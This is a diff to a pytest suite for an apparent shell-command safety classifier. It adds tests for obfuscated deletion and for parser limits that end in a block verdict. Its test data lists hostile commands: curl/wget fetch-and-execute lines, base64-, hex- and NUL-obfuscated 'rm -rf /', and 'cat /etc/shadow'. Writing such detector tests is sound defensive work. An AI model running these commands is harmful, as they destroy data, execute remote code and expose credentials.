@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import functools
 import re
+import shlex
 
 import pytest
 from hypothesis import given, settings
@@ -37,7 +39,8 @@ DANGEROUS = {
     "bash <(wget -qO- http://x/s)": "RCE001",
     'eval "$(curl -s http://x)"': "RCE001",
     "wget -O /tmp/x http://e/x && chmod +x /tmp/x && /tmp/x": "RCE002",
-    "echo cm0gLXJmIC8= | base64 -d | sh": "OBF001",
+    "echo cm0gLXJmIC8= | base64 -d | sh": "DEL001",  # the decoded text is read: it is rm -rf /
+    "cat payload.b64 | base64 -d | sh": "OBF001",  # decoded content unknown: decode-and-execute
     "echo 726d202d7266 | xxd -r -p | bash": "OBF001",
     "$(printf '\\x72\\x6d') -rf /": "DEL001",
     "cat /etc/shadow": "CRED001",
@@ -118,6 +121,29 @@ def test_allows_everyday_commands(command: str) -> None:
     verdict = classify(command)
     assert verdict.verdict == "allow", verdict.reason
     assert verdict.rule is None and verdict.mitre is None
+
+
+def test_robustness_cases_are_correct() -> None:
+    assert classify("a|" * 7999 + "a").verdict == "allow"  # 8,000 stages
+    assert classify("true && " * 1000 + "rm -rf /").rule == "DEL001"  # no recursion limit on lists
+    assert classify("r\x00m -rf /").rule == "DEL001"  # NUL bytes are dropped, as bash drops them
+    assert classify("echo " + "a " * 50_000).verdict == "allow"  # a long line is read, not cut
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        functools.reduce(
+            lambda code, _: "bash -c " + shlex.quote(code), range(12), "ls"
+        ),  # code strings too deep
+        "( " * 100 + "ls" + " )" * 100,  # nesting too deep
+        "true; " * 20_000,  # more commands than any answer holds
+        "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",  # 8,192 words
+    ],
+)
+def test_analysis_limits_block_as_unanalysable(text: str) -> None:
+    verdict = classify(text)
+    assert (verdict.verdict, verdict.rule, verdict.category) == ("block", "UNANALYSABLE", "unanalysable")
 
 
 def test_unparseable_is_a_warning_and_empty_is_allowed() -> None:
